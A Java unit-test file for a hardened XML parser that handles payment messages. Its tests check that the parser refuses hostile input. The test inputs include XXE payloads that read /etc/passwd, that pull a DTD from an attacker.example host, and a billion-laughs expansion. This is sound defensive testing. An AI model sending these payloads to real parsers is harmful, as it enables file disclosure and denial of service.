package io.paygate.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.paygate.xml.HardenedXml.XmlRejected;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class HardenedXmlTest {

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    /** Parses and expects a refusal whose message quotes none of the given fragments of the input. */
    private static XmlRejected rejected(String xml, String root, String... secretsOfTheInput) {
        XmlRejected e = catchThrowableOfType(XmlRejected.class, () -> HardenedXml.parseFlat(utf8(xml), root));
        assertThat(e).as("refused: " + xml.substring(0, Math.min(60, xml.length()))).isNotNull();
        assertThat(e.getMessage()).isNotBlank();
        assertThat(e.getMessage()).doesNotContain(xml);
        for (String s : secretsOfTheInput) {
            assertThat(e.getMessage()).doesNotContain(s);
        }
        assertThat(e.getCause()).isNull();
        return e;
    }

    @Test
    void parsesAFlatDocumentInOrderWithCdata() {
        String xml = """
                <xml>
                  <return_code><![CDATA[SUCCESS]]></return_code>
                  <return_msg><![CDATA[OK]]></return_msg>
                  <appid>wx2421b1c4370ec43b</appid>
                  <total_fee>1</total_fee>
                  <coupon_fee_0><![CDATA[100]]></coupon_fee_0>
                  <attach><![CDATA[a < b & "c"]]></attach>
                  <body>咖啡</body>
                  <empty></empty>
                  <self/>
                </xml>
                """;
        Map<String, String> m = HardenedXml.parseFlat(utf8(xml), "xml");
        assertThat(m.keySet()).containsExactly("return_code", "return_msg", "appid", "total_fee", "coupon_fee_0",
                "attach", "body", "empty", "self");
        assertThat(m).containsEntry("return_code", "SUCCESS").containsEntry("appid", "wx2421b1c4370ec43b")
                .containsEntry("total_fee", "1").containsEntry("coupon_fee_0", "100")
                .containsEntry("attach", "a < b & \"c\"").containsEntry("body", "咖啡")
                .containsEntry("empty", "").containsEntry("self", "");
    }

    @Test
    void valueWithMixedTextAndCdataIsJoined() {
        Map<String, String> m = HardenedXml.parseFlat(utf8("<xml><a>x<![CDATA[y]]>z</a></xml>"), "xml");
        assertThat(m).containsExactly(Map.entry("a", "xyz"));
    }

    @Test
    void predefinedEntitiesAndCharacterReferencesAreText() {
        Map<String, String> m = HardenedXml.parseFlat(
                utf8("<xml><code_url>weixin://wxpay/bizpayurl?pr=a&amp;b=1</code_url><c>&#x4E2D;&lt;</c></xml>"), "xml");
        assertThat(m).containsEntry("code_url", "weixin://wxpay/bizpayurl?pr=a&b=1").containsEntry("c", "中<");
    }

    @Test
    void refusesClassicXxe() {
        assertThat(rejected("""
                <?xml version="1.0" encoding="UTF-8"?>
                <!DOCTYPE xml [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
                <xml><return_code>&xxe;</return_code></xml>
                """, "xml", "/etc/passwd", "root:", "xxe").getMessage()).contains("DOCTYPE");
    }

    @Test
    void refusesParameterEntityXxe() {
        rejected("""
                <!DOCTYPE xml [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
                <xml><a>1</a></xml>
                """, "xml", "attacker.example");
    }

    @Test
    void refusesBillionLaughs() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE xml [ <!ENTITY lol \"lol\">");
        String prev = "lol";
        for (int i = 1; i <= 9; i++) {
            String name = "lol" + i;
            dtd.append("<!ENTITY ").append(name).append(" \"").append(("&" + prev + ";").repeat(10)).append("\">");
            prev = name;
        }
        dtd.append("]>");
        long start = System.nanoTime();
        assertThat(rejected(dtd + "<xml><a>&lol9;</a></xml>", "xml", "lollollol").getMessage()).contains("DOCTYPE");
        assertThat((System.nanoTime() - start) / 1_000_000).as("milliseconds").isLessThan(2000);
    }

    @Test
    void refusesAnExternalDtd() {
        assertThat(rejected("<!DOCTYPE xml SYSTEM \"http://attacker.example/x.dtd\"><xml><a>1</a></xml>", "xml",
                "attacker.example").getMessage()).contains("DOCTYPE");
        rejected("<!DOCTYPE xml PUBLIC \"-//A//B\" \"file:///etc/passwd\"><xml><a>1</a></xml>", "xml", "/etc/passwd");
    }

    @Test
    void refusesEvenAHarmlessDoctype() {
        rejected("<!DOCTYPE xml><xml><a>1</a></xml>", "xml");
    }

    @Test
    void refusesAnUndeclaredEntityReference() {
        rejected("<xml><a>&nbsp;</a></xml>", "xml");
    }

    @Test
    void refusesNestedElements() {
        rejected("<xml><a><b>secret-value-1</b></a></xml>", "xml", "secret-value-1");
    }

    @Test
    void refusesDuplicatedElements() {
        // Two amounts: which one was signed? Neither is taken.
        rejected("<xml><total_fee>1</total_fee><total_fee>100000</total_fee></xml>", "xml", "100000");
    }

    @Test
    void refusesTheWrongRoot() {
        XmlRejected e = rejected("<root><a>1</a></root>", "xml");
        assertThat(e.getMessage()).contains("<xml>");
        assertThat(HardenedXml.parseFlat(utf8("<root><a>1</a></root>"), "root")).containsEntry("a", "1");
    }

    @Test
    void refusesMalformedAndEmptyInput() {
        rejected("<xml><a>api-key-123</b></xml>", "xml", "api-key-123");
        rejected("<xml><a>1</a>", "xml");
        rejected("not xml at all: key=abcdef0123", "xml", "abcdef0123");
        rejected("<xml><a>1</a></xml><xml><a>2</a></xml>", "xml");
        assertThat(catchThrowableOfType(XmlRejected.class, () -> HardenedXml.parseFlat(new byte[0], "xml"))).isNotNull();
        assertThat(catchThrowableOfType(XmlRejected.class, () -> HardenedXml.parseFlat(null, "xml"))).isNotNull();
    }

    @Test
    void refusesOversizedInput() {
        StringBuilder big = new StringBuilder("<xml><a>");
        big.append("x".repeat(HardenedXml.MAX_BYTES));
        big.append("</a></xml>");
        XmlRejected e = rejected(big.toString(), "xml", "xxxxxxxxxx");
        assertThat(e.getMessage()).contains(Integer.toString(HardenedXml.MAX_BYTES));

        // just under the limit is fine
        String fits = "<xml><a>" + "x".repeat(HardenedXml.MAX_BYTES - 20) + "</a></xml>";
        assertThat(fits.length()).isLessThanOrEqualTo(HardenedXml.MAX_BYTES);
        assertThat(HardenedXml.parseFlat(utf8(fits), "xml").get("a")).hasSize(HardenedXml.MAX_BYTES - 20);
    }

    @Test
    void writeFlatRoundTripsAwkwardValues() {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("appid", "wxd930ea5d5a258f4f");
        fields.put("body", "腾讯充值中心-QQ会员充值");
        fields.put("attach", "a]]>b<c>&d]]]]>e");
        fields.put("detail", "]]>");
        fields.put("empty", "");
        fields.put("skipped", null);

        String xml = HardenedXml.writeFlat("xml", fields);

        assertThat(xml).startsWith("<xml><appid><![CDATA[wxd930ea5d5a258f4f]]></appid>").endsWith("</xml>");
        assertThat(xml).doesNotContain("skipped");
        Map<String, String> back = HardenedXml.parseFlat(utf8(xml), "xml");
        Map<String, String> expected = new LinkedHashMap<>(fields);
        expected.remove("skipped");
        assertThat(back).containsExactlyEntriesOf(expected);
    }

    @Test
    void writeFlatRefusesFieldNamesThatAreNotNames() {
        for (String bad : List.of("a b", "a><b", "", "1a", "a:b")) {
            Map<String, String> f = new LinkedHashMap<>();
            f.put(bad, "v");
            assertThat(catchThrowableOfType(IllegalArgumentException.class, () -> HardenedXml.writeFlat("xml", f)))
                    .as(bad).isNotNull();
        }
    }
}
